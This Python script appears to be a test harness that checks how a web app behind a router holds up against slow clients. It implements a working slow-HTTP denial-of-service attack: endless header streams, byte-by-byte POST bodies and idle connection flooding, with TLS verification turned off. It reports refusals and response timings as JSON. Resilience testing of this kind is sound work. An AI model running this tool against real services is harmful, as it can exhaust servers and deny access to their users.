"""Attacks a web app through the router as a slow peer does, and tells what became of it.

Arguments: address, port, host name, how many heads, how many bodies, how many connections.
Prints a line when it has begun, and one of JSON at the end.
"""

import asyncio
import json
import resource
import ssl
import sys
import time

ADDRESS, PORT, HOST = sys.argv[1], int(sys.argv[2]), sys.argv[3]
HEADS, BODIES, CONNECTIONS = map(int, sys.argv[4:])
resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))

tls = ssl.create_default_context()
tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
tls.set_alpn_protocols(["http/1.1"])


async def opened(encrypted=True):
    options = {"ssl": tls, "server_hostname": HOST} if encrypted else {}
    return await asyncio.open_connection(ADDRESS, PORT, **options)


async def head(number):
    """Send a head that never ends."""
    reader, writer = await opened()
    writer.write(b"GET / HTTP/1.1\r\nHost: %b\r\n" % HOST.encode())
    while True:
        await asyncio.sleep(5)
        writer.write(b"A: b\r\n")


async def body(number):
    """Send a body byte by byte; return the answer's status and after how long it came."""
    reader, writer = await opened()
    began = time.monotonic()
    writer.write(
        b"POST /upload HTTP/1.1\r\nHost: %b\r\nContent-Length: 1000000\r\n\r\n" % HOST.encode()
    )
    status = asyncio.ensure_future(reader.readline())
    while not status.done():
        writer.write(b"x")
        await asyncio.wait([status], timeout=1)
    line = status.result().split()
    return int(line[1]) if len(line) > 1 else 0, time.monotonic() - began


async def connection(held):
    """Hold a connection and send nothing; say whether it was given."""
    try:
        held.append(await opened(encrypted=False))
    except ConnectionRefusedError:
        return False
    return True


async def main():
    heads = [asyncio.ensure_future(head(n)) for n in range(HEADS)]
    bodies = [asyncio.ensure_future(body(n)) for n in range(BODIES)]
    await asyncio.sleep(3)
    held, given = [], 0
    for _ in range(CONNECTIONS):
        given += await connection(held)
    print("begun", flush=True)
    answers = await asyncio.gather(*bodies)
    for each in heads:
        each.cancel()
    print(
        json.dumps(
            {
                "refused": CONNECTIONS - given,
                "statuses": sorted({status for status, _ in answers}),
                "soonest": min(took for _, took in answers),
                "latest": max(took for _, took in answers),
            }
        ),
        flush=True,
    )


asyncio.run(main())
